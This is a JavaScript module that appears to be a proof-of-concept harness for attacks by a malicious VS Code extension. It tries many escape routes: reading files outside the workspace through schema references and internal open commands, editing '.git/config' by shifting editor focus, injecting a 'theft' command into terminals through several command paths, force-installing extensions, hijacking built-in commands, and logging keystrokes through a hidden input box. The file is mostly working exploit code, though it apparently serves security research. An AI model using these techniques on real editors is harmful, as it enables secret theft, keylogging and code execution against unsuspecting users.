// Commands of the editor and of others, direct and wrapped.
"use strict";
const fs = require("node:fs");
const { attack, theft } = require("./attack");

const settle = () => new Promise((resolve) => setTimeout(resolve, 1500));

/** Whether somebody else's command arrives here. */
const taken = (vscode, id) =>
  new Promise((resolve) => {
    const registered = vscode.commands.registerCommand(id, () => {
      registered.dispose();
      resolve("taken over");
    });
    setTimeout(() => {
      registered.dispose();
      resolve("not asked");
    }, 6000);
  });

/** What the editor's JSON server says of a document that names a schema, of which a part is this file's. */
async function schema({ workspace, mark }, vscode, place) {
  fs.writeFileSync(`${workspace}/${mark}.schema.json`, JSON.stringify({ properties: { a: { $ref: `${place}#/profiles` } } }));
  fs.writeFileSync(`${workspace}/${mark}.json`, `{ "a": 1, "$schema": "./${mark}.schema.json" }\n`);
  const { uri } = await vscode.workspace.openTextDocument(`${workspace}/${mark}.json`);
  const run = (id, column) => vscode.commands.executeCommand(id, uri, new vscode.Position(0, column));
  const said = [await run("vscode.executeHoverProvider", 3), await run("vscode.executeCompletionItemProvider", 7)];
  return JSON.stringify([said, vscode.languages.getDiagnostics(uri)]);
}

/** Puts a command where a person is about to press Enter, with a theft selected in this file for it. */
async function beforeEnter(facts, vscode, name, blanks) {
  const file = vscode.Uri.file(`${facts.workspace}/.proof/${name}`);
  await vscode.workspace.fs.writeFile(file, Buffer.from(theft(facts)));
  const editor = await vscode.window.showTextDocument(file);
  editor.selection = new vscode.Selection(0, 0, 0, 1000);
  await vscode.commands.executeCommand("workbench.action.quickOpen", `>Terminal: Run Selected Text In Active Terminal${blanks}`);
}

exports.activate = (context) =>
  attack(context, "commands", {
    schema: (facts, vscode) => schema(facts, vscode, `file://${facts.other}/profiles.json`),
    schemaRound: (facts, vscode) => schema(facts, vscode, `file://${facts.workspace}/%2e%2e/other/profiles.json`),
    schemaScheme: (facts, vscode) => schema(facts, vscode, `vscode-remote://${vscode.workspace.workspaceFolders[0].uri.authority}${facts.other}/profiles.json`),
    ownSchema(facts, vscode) {
      fs.writeFileSync(`${facts.workspace}/proof-own.json`, JSON.stringify({ profiles: { default: "of the workspace", description: "also of the workspace" } }));
      return schema(facts, vscode, "./proof-own.json");
    },
    async open({ key }, vscode) {
      await vscode.commands.executeCommand("vscode.open", vscode.Uri.file(key));
      await settle();
      return vscode.workspace.textDocuments.map((document) => document.getText());
    },
    // As the API's own command is sent, with an address that does not look like one.
    async rawOpen({ key }, vscode) {
      await vscode.commands.executeCommand("_workbench.open", { scheme: "file", path: key }, [undefined, undefined], undefined);
      await settle();
      return vscode.workspace.textDocuments.map((document) => document.getText());
    },
    async rawString({ key }, vscode) {
      const { authority, scheme } = vscode.workspace.workspaceFolders[0].uri;
      await vscode.commands.executeCommand("_workbench.open", `${scheme}://${authority}${key}`, [undefined, undefined], undefined);
      await settle();
      return vscode.workspace.textDocuments.map((document) => document.getText());
    },
    async diff({ key, workspace }, vscode) {
      await vscode.commands.executeCommand("vscode.diff", vscode.Uri.file(key), vscode.Uri.file(`${workspace}/first.js`));
      await settle();
      return vscode.workspace.textDocuments.map((document) => document.getText());
    },
    // What is judged for its own document is done to another: the focus moves in between.
    async focus({ workspace }, vscode) {
      const run = (id, ...rest) => vscode.commands.executeCommand(id, ...rest).then(undefined, String);
      await vscode.window.showTextDocument(vscode.Uri.file(`${workspace}/.git/config`), vscode.ViewColumn.Two);
      await vscode.window.showTextDocument(vscode.Uri.file(`${workspace}/first.js`), vscode.ViewColumn.One);
      await settle();
      const said = await Promise.all([
        run("workbench.action.focusSecondEditorGroup"), run("cursorTop"), run("type", { text: "# the focus moved\n" }), run("workbench.action.files.save"),
        run("workbench.action.focusFirstEditorGroup"),
      ]);
      // Others want the room.
      await run("workbench.action.focusSecondEditorGroup");
      await run("workbench.action.closeActiveEditor");
      return JSON.stringify(said);
    },
    async types({ workspace }, vscode) {
      await vscode.window.showTextDocument(vscode.Uri.file(`${workspace}/first.js`));
      await settle();
      await vscode.commands.executeCommand("cursorTop");
      await vscode.commands.executeCommand("type", { text: "// typed" });
      await vscode.commands.executeCommand("workbench.action.files.save");
      return fs.readFileSync(`${workspace}/first.js`, "utf8");
    },
    async sendSequence(facts, vscode) {
      await vscode.commands.executeCommand("workbench.action.terminal.new");
      await settle();
      await vscode.commands.executeCommand("workbench.action.terminal.sendSequence", { text: `${theft(facts)}\r` });
    },
    async newWithCwd({ home }, vscode) {
      await vscode.commands.executeCommand("workbench.action.terminal.newWithCwd", { cwd: home });
      return "ran";
    },
    async runCommands(facts, vscode) {
      await vscode.commands.executeCommand("runCommands", { commands: ["workbench.action.terminal.new"] });
      await settle();
      await vscode.commands.executeCommand("runCommands", {
        commands: [{ command: "runCommands", args: { commands: [{ command: "workbench.action.terminal.sendSequence", args: { text: `${theft(facts)}\r` } }] } }],
      });
    },
    // Of the chat's own: it runs the command of a variable, whoever says what that is.
    async dynamicVariable(facts, vscode) {
      const run = (id, ...words) =>
        vscode.commands.executeCommand("workbench.action.chat.addDynamicVariable", { widget: {}, range: {}, variableData: {}, command: { id, arguments: words } }).then(undefined, () => {});
      await run("workbench.action.terminal.new");
      await settle();
      await run("workbench.action.terminal.sendSequence", { text: `${theft(facts)}\r` });
    },
    async installExtension({ vsix }, vscode) {
      await vscode.commands.executeCommand("workbench.extensions.installExtension", vscode.Uri.file(vsix));
    },
    async remoteCli({ vsix }, vscode) {
      return vscode.commands.executeCommand("_remoteCLI.manageExtensions", { install: [vscode.Uri.file(vsix)], force: true });
    },
    async victim(_facts, vscode) {
      return vscode.commands.executeCommand("proof.victim.token");
    },
    // A command that was its own for a moment.
    async disposed(facts, vscode) {
      vscode.commands.registerCommand("workbench.action.terminal.new", () => undefined).dispose();
      vscode.commands.registerCommand("workbench.action.terminal.sendSequence", () => undefined).dispose();
      await vscode.commands.executeCommand("workbench.action.terminal.new");
      await settle();
      await vscode.commands.executeCommand("workbench.action.terminal.sendSequence", { text: `${theft(facts)}\r` });
    },
    // A person who writes a text presses Enter soon.
    quickOpen: (facts, vscode) => beforeEnter(facts, vscode, "selected.txt", ""),
    quickOpenLong: (facts, vscode) => beforeEnter(facts, vscode, "selected-long.txt", " ".repeat(30000)),
    // The user's own commands come here from now on: the test runs them.
    takeOver: (_facts, vscode) => taken(vscode, "workbench.action.files.newUntitledFile"),
    takeOverFamily: (_facts, vscode) => taken(vscode, "workbench.action.terminal.focus"),
    // A box that cannot be told that it is hidden stays behind the next ones, hears what is typed there, and can answer them.
    async behind(_facts, vscode) {
      const boxes = [1, 2, 3].map(() => vscode.window.createInputBox());
      const shows = async (act) => {
        act();
        await new Promise((resolve) => setTimeout(resolve, 300));
      };
      let heard = "";
      boxes[0].onDidChangeValue((text) => (heard += `${text}\n`));
      await shows(() => boxes[0].show());
      await shows(() => boxes[0].update({ didHide: 1 }));
      await shows(() => boxes[1].show());
      await shows(() => boxes[2].show());
      await shows(() => boxes[2].hide());
      await new Promise((resolve) => setTimeout(resolve, 8000));
      for (const box of boxes) box.dispose();
      return heard;
    },
  });
